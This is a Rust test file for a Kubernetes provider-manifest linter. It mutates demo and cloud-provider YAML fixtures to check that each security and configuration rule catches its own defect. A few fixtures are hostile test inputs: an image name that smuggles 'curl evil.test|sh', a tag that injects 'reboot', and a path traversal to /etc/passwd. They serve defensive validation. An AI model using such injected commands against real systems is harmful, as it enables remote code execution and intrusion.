use std::collections::BTreeSet;

use super::{rules::RULES, *};
use crate::{
    provider::{embedded, folder::parsed_providers},
    text::output::junit,
};

const FILES: [(&str, &str); 4] = [
    ("assets/demo/deployment.yaml", include_str!("../../../../../tests/sound/assets/demo/deployment.yaml")),
    ("assets/demo/provider.yaml", include_str!("../../../../../tests/sound/assets/demo/provider.yaml")),
    ("assets/demo/role.yaml", include_str!("../../../../../tests/sound/assets/demo/role.yaml")),
    ("bootstrap/demo/pod.yaml", include_str!("../../../../../tests/sound/bootstrap/demo/pod.yaml")),
];

const DEPLOYMENT: usize = 0;
const DESCRIPTOR: usize = 1;
const ROLE: usize = 2;
const POD: usize = 3;

/// For each rule: the file to change, the text to replace, its replacement, and a text on the line of the finding.
#[rustfmt::skip]
const FIXTURES: &[(&str, usize, &str, &str, &str)] = &[
    ("readable", DESCRIPTOR, "platform: {type: Demo}", "plattform: {type: Demo}", "plattform"),
    ("readable", DESCRIPTOR, "--cluster-name: infra", "--cluster-name: inffra", "--cluster-name"),
    ("readable", ROLE, "kind: RoleBinding", "kind: Secret", "kind: Secret"),
    ("readable", ROLE, "  name: demo-cloud-provider\n  namespace: kube-system\nrules", "  name: demo-cloud-provider\nrules", "metadata:"),
    ("readable", DESCRIPTOR, "name: demo", "name: other", "name: other"),
    ("readable", DESCRIPTOR, "--cluster-name: infra", "--cloud-provider: infra", "--cloud-provider"),
    ("readable", ROLE, "  verbs: [get, update]", "  verbs: [get, update]\n  verbs: [get]", "verbs: [get]"),
    ("readable", ROLE, "  verbs: [get, update]", "  verbs: [get, update]\n  !x verbs: [get]", "!x verbs: [get]"),
    ("known-field", DEPLOYMENT, "type: Recreate", "typ: Recreate", "typ:"),
    ("known-field", DEPLOYMENT, "hostNetwork: true", "hostNetwork: true\n      hostNetwrok: true", "hostNetwrok"),
    ("known-field", DEPLOYMENT, "-v=2", "-v=2\n        - 2", "- 2\n"),
    ("known-field", ROLE, "  verbs: [get, update]", "  verbs: [get, update]\n  name: a", "  name: a"),
    ("ambiguous-scalar", DEPLOYMENT, "type: Recreate", "type: Recreate\n  paused: no", "paused"),
    ("ambiguous-scalar", DEPLOYMENT, "      - name: tmp\n        emptyDir: {}", "      - name: tmp\n        emptyDir: {sizeLimit: 0644}", "sizeLimit"),
    ("placeholder", DEPLOYMENT, "--cloud-provider=demo", "--cloud-provider=${CLOUD}", "${CLOUD}"),
    ("placeholder", DEPLOYMENT, "-v=2", "--zone={{ .Zone }}", "{{ .Zone }}"),
    ("placeholder", DEPLOYMENT, "-v=2", "--zone=<your-zone>", "<your-zone>"),
    ("placeholder", ROLE, "name: demo-cloud-provider\n  namespace: kube-system\nrules", "name: TODO\n  namespace: kube-system\nrules", "name: TODO"),
    ("placeholder", DESCRIPTOR, "tag: demo-ccm", "tag: CHANGEME", "CHANGEME"),
    ("container-names", DEPLOYMENT, "- name: cloud-controller-manager", "- name: ccm", "- name: ccm"),
    ("image-key", DESCRIPTOR, "key: demoCcm", "key: demoCCM", "demoCCM"),
    ("credentials-requested", DEPLOYMENT, "secretName: demo-cloud-credentials", "secretName: other", "secret:"),
    ("credentials-requested", DEPLOYMENT, "        - name: CLOUD_CONFIG", "        - name: DEMO_SECRET_NAME\n          value: other\n        - name: CLOUD_CONFIG", "value: other"),
    ("credentials-requested", DEPLOYMENT, "        - name: CLOUD_CONFIG", "        - name: TOKEN\n          valueFrom: {secretKeyRef: {name: other, key: a}}\n        - name: CLOUD_CONFIG", "secretKeyRef"),
    ("one-object", ROLE, "  verbs: [get, update]\n---", "  verbs: [get, update]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: demo-cloud-provider\n  namespace: kube-system\nrules: []  # again\n---", "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: demo-cloud-provider\n  namespace: kube-system\nrules: []"),
    ("rbac-wildcard", ROLE, "verbs: [get, update]", "verbs: [\"*\"]", "verbs"),
    ("rbac-wildcard", ROLE, "resources: [leases]", "resources: [\"leases/*\"]", "resources"),
    ("rbac-wildcard", ROLE, "kind: Role\n  name: demo-cloud-provider", "kind: ClusterRole\n  name: cluster-admin", "cluster-admin"),
    ("namespace", ROLE, "namespace: kube-system\nrules", "namespace: default\nrules", "namespace: default"),
    ("namespace", ROLE, "namespace: openshift-cloud-controller-manager", "namespace: openshift-config", "openshift-config"),
    ("replicas", DEPLOYMENT, "replicas: 2", "replicas: 1", "replicas: 1"),
    ("replicas", DEPLOYMENT, "  replicas: 2\n", "", "spec:"),
    ("anti-affinity", DEPLOYMENT, "topologyKey: kubernetes.io/hostname", "topologyKey: topology.kubernetes.io/zone", "podAntiAffinity"),
    ("anti-affinity", DEPLOYMENT, "              matchLabels:\n                k8s-app: demo-cloud", "              matchLabels:\n                k8s-app: other-cloud", "podAntiAffinity"),
    ("priority-class", DEPLOYMENT, "system-cluster-critical", "openshift-user-critical", "openshift-user-critical"),
    ("priority-class", POD, "system-node-critical", "system-cluster-critical", "system-cluster-critical"),
    ("host-network", DEPLOYMENT, "hostNetwork: true", "hostNetwork: false", "hostNetwork"),
    ("service-account", DEPLOYMENT, "serviceAccountName: cloud-controller-manager", "serviceAccountName: default", "serviceAccountName"),
    ("tolerations", DEPLOYMENT, "      - {key: node.cluster.x-k8s.io/uninitialized, operator: Exists, effect: NoSchedule}\n", "", "tolerations:"),
    ("tolerations", DEPLOYMENT, "node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule", "node-role.kubernetes.io/control-plane, operator: Exists, effect: NoExecute", "tolerations:"),
    ("tolerations", DEPLOYMENT, "node-role.kubernetes.io/control-plane, operator: Exists", "node-role.kubernetes.io/control-plane, operator: Equal, value: other", "tolerations:"),
    ("host-path", DEPLOYMENT, "      - name: tmp\n        emptyDir: {}", "      - name: tmp\n        hostPath:\n          path: /etc/kubernetes", "path: /etc/kubernetes"),
    ("host-path", POD, "  - name: tmp\n    emptyDir: {}", "  - name: tmp\n    hostPath:\n      path: /", "path: /\n"),
    ("requests", DEPLOYMENT, "            memory: 50Mi\n", "", "requests:"),
    ("no-limits", DEPLOYMENT, "          requests:", "          limits: {cpu: 1}\n          requests:", "limits"),
    ("probes", DEPLOYMENT, "startupProbe:", "readinessProbe:", "- name: cloud-controller-manager"),
    ("probes", DEPLOYMENT, "containerPort: 10258", "containerPort: 10259", "startupProbe:"),
    ("probes", POD, "    livenessProbe:\n      httpGet: {scheme: HTTPS", "    livenessProbe:\n      httpGet: {scheme: HTTP", "livenessProbe"),
    ("volume-mounts", DEPLOYMENT, "      - name: tmp\n        emptyDir", "      - name: temp\n        emptyDir", "name: tmp"),
    ("cloud-config", DEPLOYMENT, "mountPath: /etc/kubernetes-cloud-config", "mountPath: /etc/cloud-config", "--cloud-config="),
    ("cloud-config", DEPLOYMENT, "path: cloud.conf}", "path: other.conf}", "--cloud-config="),
    ("cloud-config", DEPLOYMENT, "name: cloud-conf\n", "name: cloud-config\n", "--cloud-config="),
    ("cloud-config", DEPLOYMENT, "        configMap:\n          name: cloud-conf\n          items:\n          - {key: cloud.conf, path: cloud.conf}\n", "        emptyDir: {}\n", "--cloud-config="),
    ("cloud-config", POD, "mountPath: /etc/kubernetes/configs", "mountPath: /etc/kubernetes/config", "--cloud-config="),
    ("leader-election", DEPLOYMENT, "--leader-elect=true", "--leader-elect=false", "--leader-elect="),
    ("read-only-root", DEPLOYMENT, "readOnlyRootFilesystem: true", "readOnlyRootFilesystem: false", "readOnlyRootFilesystem"),
    ("privilege-escalation", DEPLOYMENT, "          allowPrivilegeEscalation: false\n", "", "securityContext:\n          readOnly"),
    ("privilege-escalation", POD, "      allowPrivilegeEscalation: false\n", "      allowPrivilegeEscalation: false\n      privileged: true\n", "privileged"),
    ("capabilities", DEPLOYMENT, "drop: [ALL]", "drop: [NET_RAW]", "drop:"),
    ("capabilities", POD, "drop: [ALL]", "drop: [ALL]\n        add: [NET_ADMIN]", "add:"),
    ("seccomp", DEPLOYMENT, "type: RuntimeDefault", "type: Unconfined", "securityContext:\n          readOnly"),
    ("bootstrap-static-pod", POD, "namespace: kube-system", "namespace: openshift-cloud-controller-manager", "namespace"),
    ("bootstrap-service-account", POD, "  hostNetwork: true", "  serviceAccountName: ccm\n  hostNetwork: true", "serviceAccountName"),
    ("bootstrap-controllers", POD, "--controllers=cloud-node", "--controllers=*", "--controllers"),
    ("bootstrap-controllers", POD, "    - --controllers=cloud-node\n", "", "args:"),
    ("bootstrap-kubeconfig", POD, "    - --kubeconfig=/etc/kubernetes/secrets/kubeconfig\n", "", "args:"),
    ("bootstrap-kubeconfig", POD, "path: /etc/kubernetes/bootstrap-secrets", "path: /etc/kubernetes/bootstrap-configs", "--kubeconfig"),
    ("bootstrap-election", POD, "--leader-elect=false", "--leader-elect=true", "--leader-elect"),
    ("bootstrap-port", POD, "10267", "10258", "--secure-port"),
    ("bootstrap-static-pod", POD, "kind: Pod", "kind: Service", "kind: Service"),
];

const KUBERNETES: [(&str, &str); 12] = [
    (
        "assets/hcloud/kubernetes/deployment.yaml",
        include_str!("../../../../../assets/hcloud/kubernetes/deployment.yaml"),
    ),
    (
        "assets/hcloud/kubernetes/poddisruptionbudget.yaml",
        include_str!("../../../../../assets/hcloud/kubernetes/poddisruptionbudget.yaml"),
    ),
    ("assets/hcloud/kubernetes/provider.yaml", include_str!("../../../../../assets/hcloud/kubernetes/provider.yaml")),
    ("assets/hcloud/kubernetes/rbac.yaml", include_str!("../../../../../assets/hcloud/kubernetes/rbac.yaml")),
    ("assets/vultr/kubernetes/daemonset.yaml", include_str!("../../../../../assets/vultr/kubernetes/daemonset.yaml")),
    ("assets/vultr/kubernetes/provider.yaml", include_str!("../../../../../assets/vultr/kubernetes/provider.yaml")),
    ("assets/vultr/kubernetes/rbac.yaml", include_str!("../../../../../assets/vultr/kubernetes/rbac.yaml")),
    ("assets/azure/kubernetes/deployment.yaml", include_str!("../../../../../assets/azure/kubernetes/deployment.yaml")),
    (
        "assets/azure/kubernetes/node-manager.yaml",
        include_str!("../../../../../assets/azure/kubernetes/node-manager.yaml"),
    ),
    (
        "assets/azure/kubernetes/poddisruptionbudget.yaml",
        include_str!("../../../../../assets/azure/kubernetes/poddisruptionbudget.yaml"),
    ),
    ("assets/azure/kubernetes/provider.yaml", include_str!("../../../../../assets/azure/kubernetes/provider.yaml")),
    ("assets/azure/kubernetes/rbac.yaml", include_str!("../../../../../assets/azure/kubernetes/rbac.yaml")),
];

const BUDGET: usize = 1;
const KUBERNETES_DESCRIPTOR: usize = 2;
const DAEMON_SET: usize = 4;
const NODE_MANAGER: usize = 8;

const TAGS: &str =
    "tags: {\"1.32\": v1.30.1, \"1.33\": v1.35.0, \"1.34\": v1.35.0, \"1.35\": v1.35.0, \"1.36\": v1.35.0}";

/// The same for rules of the flavor kubernetes.
#[rustfmt::skip]
const KUBERNETES_FIXTURES: &[(&str, usize, &str, &str)] = &[
    ("readable", KUBERNETES_DESCRIPTOR, "[amd64, arm64, arm]", "[x86_64]"),
    ("readable", KUBERNETES_DESCRIPTOR, "[amd64, arm64, arm]", "[]"),
    ("readable", KUBERNETES_DESCRIPTOR, "docker.io/hetznercloud/hcloud-cloud-controller-manager", "\"docker.io/x/y;curl evil.test|sh;#\""),
    ("readable", KUBERNETES_DESCRIPTOR, TAGS, "tags: {\"1.35\": \"v1;reboot\"}"),
    ("readable", KUBERNETES_DESCRIPTOR, "credentials:", "cloudConfig: {required: false, file: ../../etc/passwd}\ncredentials:"),
    ("readable", KUBERNETES_DESCRIPTOR, TAGS, "tags: {}"),
    ("readable", KUBERNETES_DESCRIPTOR, "\"hcloud://\"", "\"\""),
    ("readable", KUBERNETES_DESCRIPTOR, "HCLOUD_TOKEN: token", "HCLOUD_TOKEN: tokn"),
    ("kubernetes-dns-policy", DEPLOYMENT, "dnsPolicy: Default", "dnsPolicy: ClusterFirst"),
    ("kubernetes-node-affinity", DEPLOYMENT, "control-plane, operator: Exists}\n        podAnti", "control-plane, operator: In, values: [\"\"]}\n        podAnti"),
    ("kubernetes-node-affinity", DEPLOYMENT, "      hostNetwork: true", "      nodeSelector: {node-role.kubernetes.io/control-plane: \"\"}\n      hostNetwork: true"),
    ("kubernetes-tolerations", DEPLOYMENT, "      - {key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute}\n", ""),
    ("kubernetes-tolerations", DEPLOYMENT, "key: CriticalAddonsOnly", "key: CriticalAddon"),
    ("kubernetes-non-root", DEPLOYMENT, "runAsNonRoot: true", "runAsNonRoot: false"),
    ("kubernetes-non-root", DEPLOYMENT, "        runAsUser: 65532\n", ""),
    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "    --cluster-cidr: {fact: podCIDRs, optional: true}\n", ""),
    ("namespace", BUDGET, "namespace: kube-system", "namespace: openshift-cloud-controller-manager"),
    ("kubernetes-single-identity", DEPLOYMENT, "credentials=false", "credentials=true"),
    ("kubernetes-webhook-port", DEPLOYMENT, "        - --webhook-secure-port=0\n", ""),
    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "    --controllers: controllers\n", ""),
    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "--secure-port: securePort", "--secure-port: {value: \"10258\"}"),
    ("kubernetes-node-manager", KUBERNETES_DESCRIPTOR, "routes: {maxPodCIDRs", "nodeManager: hcloud-node-manager\nroutes: {maxPodCIDRs"),
    ("kubernetes-instance-label", BUDGET, "    app.kubernetes.io/instance: cluster\nspec", "spec"),
    ("kubernetes-instance-label", DEPLOYMENT, "    app.kubernetes.io/instance: cluster\nspec:\n  replicas", "    app.kubernetes.io/instance: other\nspec:\n  replicas"),
    ("kubernetes-disruption-budget", BUDGET, "policy/v1\nkind: PodDisruptionBudget", "v1\nkind: ConfigMap"),
    ("kubernetes-eviction-policy", BUDGET, "  unhealthyPodEvictionPolicy: AlwaysAllow\n", ""),
    ("kubernetes-eviction-policy", BUDGET, "AlwaysAllow", "IfHealthyBudget"),
    ("kubernetes-deployment-strategy", DEPLOYMENT, ROLLING, "type: Recreate\n"),
    ("kubernetes-deployment-strategy", DEPLOYMENT, "maxUnavailable: 1}", "maxUnavailable: 100%}"),
    ("kubernetes-deployment-strategy", DEPLOYMENT, "maxSurge: 0", "maxSurge: 1"),
    ("kubernetes-daemonset-strategy", DAEMON_SET, "maxUnavailable: 50%", "maxUnavailable: 1"),
    ("kubernetes-daemonset-strategy", DAEMON_SET, "maxUnavailable: 50%", "maxUnavailable: 100%"),
    ("kubernetes-daemonset-strategy", DAEMON_SET, "type: RollingUpdate\n    rollingUpdate: {maxSurge: 0, maxUnavailable: 50%}", "type: OnDelete"),
    ("kubernetes-daemonset-strategy", NODE_MANAGER, "maxUnavailable: 50%", "maxUnavailable: 10%"),
    ("kubernetes-daemonset-strategy", NODE_MANAGER, "rollingUpdate: {maxSurge: 0, maxUnavailable: 50%}", "rollingUpdate: {maxSurge: 1, maxUnavailable: 0}"),
    ("kubernetes-daemonset-strategy", DAEMON_SET, "      - {key: node.kubernetes.io/unreachable, operator: Exists, effect: NoSchedule}\n", ""),
];

/// In the manifest of a Deployment.
const ROLLING: &str = "type: RollingUpdate\n    rollingUpdate: {maxSurge: 0, maxUnavailable: 1}\n";

#[test]
fn each_fixture_of_the_flavor_kubernetes_breaks_only_its_rule() {
    for &(rule, file, from, to) in KUBERNETES_FIXTURES {
        let sound = KUBERNETES[file].1;
        let text = sound.replacen(from, to, 1);
        assert_ne!(text, sound, "{rule}: {from:?} is missing");
        let files = KUBERNETES.iter().enumerate();
        let files = files.map(|(index, (path, sound))| (*path, if index == file { text.as_str() } else { *sound }));
        let mut found =
            verify(&parsed_providers(files.map(|(path, text)| (path, text.as_bytes()))), Some(&payload()), None)
                .findings;
        found.retain(|finding| !is_of_another_kind(to, finding));
        assert!(!found.is_empty(), "{rule}: {to:?} is not found");
        for finding in &found {
            assert_eq!(finding.rule, rule, "{to:?}: {found:#?}");
        }
    }
}

/// An object of another kind has fields that this one does not have.
fn is_of_another_kind(to: &str, finding: &Finding) -> bool {
    to.contains("kind: ") && finding.rule == "known-field"
}

fn payload() -> Payload {
    Payload::read([
        ("manifests/images.yaml", "kind: ConfigMap\ndata: {images.json: '{\"demoCcm\": \"a\"}'}\n".as_bytes()),
        (
            "manifests/credentials.yaml",
            "kind: CredentialsRequest\nspec:\n  secretRef: {name: demo-cloud-credentials, namespace: \
             openshift-cloud-controller-manager}\n"
                .as_bytes(),
        ),
    ])
}

/// The findings of the sound provider with one of its files changed.
fn findings(file: usize, text: &str) -> Vec<Finding> {
    let files =
        FILES.iter().enumerate().map(|(index, (path, sound))| (*path, if index == file { text } else { sound }));
    let parsed_providers = parsed_providers(files.map(|(path, text)| (path, text.as_bytes())));
    verify(&parsed_providers, Some(&payload()), None).findings
}

#[test]
fn the_embedded_providers_break_no_rule() {
    let report = verify(&embedded::parsed_providers(), Some(&embedded::payload()), None);
    assert_eq!(report.findings, [], "{}", report.table());
    let (providers, rules) = (embedded::parsed_providers().len(), RULES.len());
    assert_eq!(report.table(), format!("{providers} providers checked by {rules} rules: nothing found\n"));
}

#[test]
fn a_sound_provider_breaks_no_rule() {
    assert_eq!(findings(DESCRIPTOR, FILES[DESCRIPTOR].1), []);
}

#[test]
fn each_fixture_breaks_only_its_rule_at_the_right_line() {
    for &(rule, file, from, to, place) in FIXTURES {
        let (path, sound) = FILES[file];
        let text = sound.replace(from, to);
        assert_ne!(text, sound, "{rule}: {from:?} is missing");
        let mut found = findings(file, &text);
        found.retain(|finding| !is_of_another_kind(to, finding));
        assert!(!found.is_empty(), "{rule}: {to:?} is not found");
        for finding in &found {
            assert_eq!((finding.rule, finding.file.as_str()), (rule, path), "{to:?}: {found:#?}");
        }
        let start = text.find(place).unwrap_or_else(|| panic!("{rule}: {place:?} is missing"));
        let line = 1 + text[..start].matches('\n').count();
        assert_eq!(found[0].place.line, line, "{rule}: {to:?}: {found:#?}");
    }
}

#[test]
fn every_placeholder_is_found() {
    for word in ["TODO", "FIXME", "CHANGEME", "CHANGE_ME", "${", "{{", "<your-zone>"] {
        let found = findings(DESCRIPTOR, &FILES[DESCRIPTOR].1.replace("tag: demo-ccm", &format!("tag: \"a {word}\"")));
        let found: Vec<_> = found.iter().map(|finding| (finding.rule, finding.what.clone())).collect();
        assert_eq!(found, [("placeholder", format!("the placeholder {word}"))]);
    }
}

#[test]
fn every_defect_is_a_finding() {
    let text = FILES[DESCRIPTOR].1.replace("name: demo\n", "name: other\n");
    let files = [FILES[DEPLOYMENT], (FILES[DESCRIPTOR].0, &text), (FILES[ROLE].0, "a: ["), ("assets/demo/a.txt", "")];
    let report = verify(&parsed_providers(files.map(|(path, text)| (path, text.as_bytes()))), None, None);
    let readable = report.findings.iter().filter(|finding| finding.rule == "readable");
    let places: Vec<_> = readable.map(|finding| format!("{}:{}", finding.file, finding.place)).collect();
    assert_eq!(places, ["assets/demo/a.txt:1", "assets/demo/provider.yaml:2", "assets/demo/role.yaml:1:4"]);
}

#[test]
fn every_rule_has_a_fixture_and_a_unique_name() {
    let rules: BTreeSet<_> = RULES.iter().map(|rule| rule.id).collect();
    assert_eq!(rules.len(), RULES.len());
    let kubernetes = KUBERNETES_FIXTURES.iter().map(|(rule, ..)| *rule);
    assert_eq!(rules, FIXTURES.iter().map(|(rule, ..)| *rule).chain(kubernetes).collect());
}

#[test]
fn every_rule_has_a_row_in_the_documentation_and_each_row_a_rule() {
    let ids: BTreeSet<_> = rules().chain([&DRY_RUN]).map(|rule| rule.id).collect();
    assert_eq!(TEXTS.keys().copied().collect::<BTreeSet<_>>(), ids);
    assert!(TEXTS.values().all(|(why, fix)| why.len() > 20 && fix.len() > 15), "{:?}", *TEXTS);
}

#[test]
fn rules_about_the_payload_need_one() {
    let files =
        FILES.map(|(path, text)| (path, text.replace("demo-cloud-credentials", "other").replace("demoCcm", "x")));
    let parsed_providers = parsed_providers(files.iter().map(|(path, text)| (*path, text.as_bytes())));
    assert_eq!(verify(&parsed_providers, None, None).findings, []);
    let found: Vec<_> =
        verify(&parsed_providers, Some(&payload()), None).findings.iter().map(|finding| finding.rule).collect();
    assert_eq!(found, ["image-key", "credentials-requested"]);
}

#[test]
fn a_report_has_the_place_the_reason_and_the_fix() {
    let files = FILES.map(|(path, text)| (path, text.replace("replicas: 2", "replicas: 1")));
    let report = verify(&parsed_providers(files.iter().map(|(path, text)| (*path, text.as_bytes()))), None, None);
    let rules = RULES.len();
    let expected = format!(
        "\
RULE      WHERE                           WHAT
replicas  assets/demo/deployment.yaml:11  replicas is 1, not 2 or more

replicas:
  while the node of the only replica is down nothing initializes nodes or creates load balancers.
  Fix: set replicas: 2; the operator sets one replica on a single-node cluster.

1 provider checked by {rules} rules: 1 finding
"
    );
    assert_eq!(report.table(), expected);
    let xml = junit(&report.suites());
    assert!(xml.contains(&format!("<testsuite name=\"demo\" tests=\"{rules}\" failures=\"1\">")), "{xml}");
    assert!(xml.contains("<testcase classname=\"demo\" name=\"replicas\">"), "{xml}");
}
